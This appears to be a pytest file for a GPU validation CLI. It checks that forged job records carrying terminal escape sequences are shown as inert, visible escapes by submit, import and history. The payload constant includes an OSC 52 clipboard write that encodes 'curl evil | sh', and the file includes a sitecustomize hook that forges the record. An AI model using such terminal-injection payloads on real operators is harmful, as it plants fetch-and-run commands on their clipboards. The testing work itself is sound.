"""Nothing a node prints reaches the operator's terminal as a control: the review's payload (cursor up, erase the
line above, an OSC 52 that writes the clipboard) in a record's reason, name and run id comes out as visible
escapes through every printer of record text (`submit --wait` / `jobs wait`, `import`, `history`, health's check
lines). The node is a real local job whose `gpuval health` has a sitecustomize on its PYTHONPATH that prints the
forged record at exit, as the reliability review's hostile node did (D14)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gpuval.cli.render import inert
from tests.conftest import run_gpuval

PAYLOAD = "ok\x1b[1A\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07"  # up, erase, clipboard := "curl evil | sh"
CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f")
FORGED = {"run_id": "forged\x1b[2J", "kind": "health", "name": "ecc\x9b1A", "where": {"hostname": "a1\x7f"},
          "status": "pass", "reason": PAYLOAD}
HOOK = f"""import atexit, json, sys


def _forge():
    if "health" in sys.argv:
        print(json.dumps({FORGED!r}), flush=True)


atexit.register(_forge)
"""


def _clean(text: str) -> None:
    assert not any(c in text for c in CONTROLS), repr(text)


def test_inert_shows_every_control_and_escapes_markup():
    controls = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)])
    shown = inert(controls + "[bold]x[/]")
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert shown.startswith("\\x00\\x01") and "\\n" in shown and "\\x1b" in shown and "\\x9b" in shown
    assert shown.endswith("\\[bold]x\\[/]")
    assert inert("é ü 中 ok") == "é ü 中 ok"  # printable text is left as it is


@pytest.mark.timeout(240)
def test_a_forged_record_from_a_jobs_node_prints_no_control(tmp_path: Path):
    hook = tmp_path / "hostile"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(HOOK)
    proc = run_gpuval("submit", "health", "--on", "local", "--env", f"PYTHONPATH={hook}", "--wait", "--",
                      "--check", "gpu_count")
    assert "ok\\x1b[1A\\x1b[2K\\x1b]52;c;" in proc.stdout, proc.stdout + proc.stderr  # the forged record, shown
    _clean(proc.stdout + proc.stderr)


def test_import_and_history_print_no_control(tmp_path: Path):
    results = tmp_path / "r.jsonl"
    record = {**FORGED, "id": "forged-1", "started_at": "2026-01-01T00:00:00Z"}
    results.write_text(json.dumps(record) + "\n")
    db = str(tmp_path / "r.db")
    imported = run_gpuval("import", str(results), "--db", db)
    assert imported.returncode == 0, imported.stderr
    assert "forged\\x1b[2J" in imported.stdout
    listed = run_gpuval("history", "--db", db)
    assert listed.returncode == 0, listed.stderr
    assert "forged\\x1b[2J" in listed.stdout
    _clean(imported.stdout + imported.stderr + listed.stdout + listed.stderr)
